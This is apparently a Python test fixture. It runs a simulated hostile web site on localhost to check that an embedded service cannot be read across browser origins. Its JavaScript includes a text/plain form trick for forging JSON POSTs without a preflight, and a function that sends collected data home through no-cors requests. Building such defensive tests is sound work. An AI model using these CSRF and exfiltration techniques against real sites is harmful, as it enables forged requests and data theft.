"""A hostile web site on another loopback origin, for the browser boundary tests.

It serves the attacker's pages (HTML with inline script, as an attacker's site would) and
collects what they send home, the way a real page exfiltrates what it read: the tests then
check on the collected reports that nothing the embedded ECS holds was readable. Each page
runs its attempts one after the other, records what each could read (or how it was refused),
and reports; a control attempt reads the hostile site itself, to show that whatever a page
can read does reach the report.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

CONTROL = "the hostile site's own text, readable by its page"
# Waited for in the browser (``page.wait_for_function``), which keeps Playwright serving the
# page's routes meanwhile.
REPORTED = "window.reported === true"

# What every hostile page runs: ``attempt`` records what an action could read, or how it
# failed; ``formPost`` submits a text/plain form (no preflight) into a frame; ``image`` loads
# a URL as an <img>; ``report`` sends everything home, after the control read, then sets
# ``window.reported`` (what ``REPORTED`` waits for).
PRELUDE = """
const results = {};
async function attempt(name, action) {
  try { results[name] = String(await action()); }
  catch (error) { results[name] = "refused: " + error; }
}
function read(url, init) { return fetch(url, init).then(answer => answer.text()); }
function image(url) {
  return new Promise(done => {
    const img = new Image();
    img.onload = () => done("image loaded");
    img.onerror = () => done("image failed");
    img.src = url;
  });
}
let frames = 0;
function formPost(action, json) {
  // A text/plain form sends "name=value": the JSON object, but its closing brace, with a
  // padding member opened, as the name; its end as the value. The server receives
  // {...,"padding":"="}, the same object to a JSON API (unknown members are ignored).
  return new Promise(done => {
    const name = "sink" + frames++;
    const frame = document.createElement("iframe");
    frame.name = name;
    frame.onload = () => done("form posted");
    document.body.appendChild(frame);
    const form = document.createElement("form");
    form.method = "POST";
    form.enctype = "text/plain";
    form.action = action;
    form.target = name;
    const field = document.createElement("input");
    field.type = "hidden";
    field.name = json.slice(0, -1) + ',"padding":"';
    field.value = '"}';
    form.appendChild(field);
    document.body.appendChild(form);
    form.submit();
  });
}
async function report(home) {
  await attempt("control", () => read(home + "/control.txt"));
  await fetch(home + "/report", {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
  window.reported = true;
}
"""


def hostile_page(script: str, **constants: Any) -> str:
    """An HTML page that defines ``constants`` (as JSON), the prelude, then runs ``script``."""
    defined = "".join(f"const {name} = {json.dumps(value)};\n" for name, value in constants.items())
    return (
        "<!doctype html><html><head><meta charset='utf-8'><title>cute cats</title></head><body>"
        f"<script>\n{defined}{PRELUDE}\n(async () => {{\n{script}\n}})();\n</script>"
        "</body></html>"
    )


class HostileSite:
    """``http://127.0.0.1:<its own port>``: serves ``pages`` and collects the reports."""

    def __init__(self, server: ThreadingHTTPServer) -> None:
        self._server = server
        self.pages: dict[str, str] = {}
        self.reports: list[dict[str, str]] = []

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._server.server_port}"

    def report(self) -> dict[str, str]:
        """The report of the page that ran (it arrived before the page set ``REPORTED``)."""
        assert self.reports, "the hostile page sent no report"
        return self.reports[-1]


@contextmanager
def hostile_site() -> Iterator[HostileSite]:
    site: HostileSite

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path == "/control.txt":
                self._answer(200, "text/plain", CONTROL)
            elif self.path in site.pages:
                self._answer(200, "text/html; charset=utf-8", site.pages[self.path])
            else:
                self._answer(404, "text/plain", "not found")

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            if self.path == "/report":
                site.reports.append(json.loads(body))
            self._answer(204, "text/plain", "")

        def _answer(self, status: int, content_type: str, text: str) -> None:
            payload = text.encode()
            self.send_response(status)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(payload)))
            self.end_headers()
            self.wfile.write(payload)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    site = HostileSite(server)
    thread = threading.Thread(target=server.serve_forever, name="hostile-site", daemon=True)
    thread.start()
    try:
        yield site
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
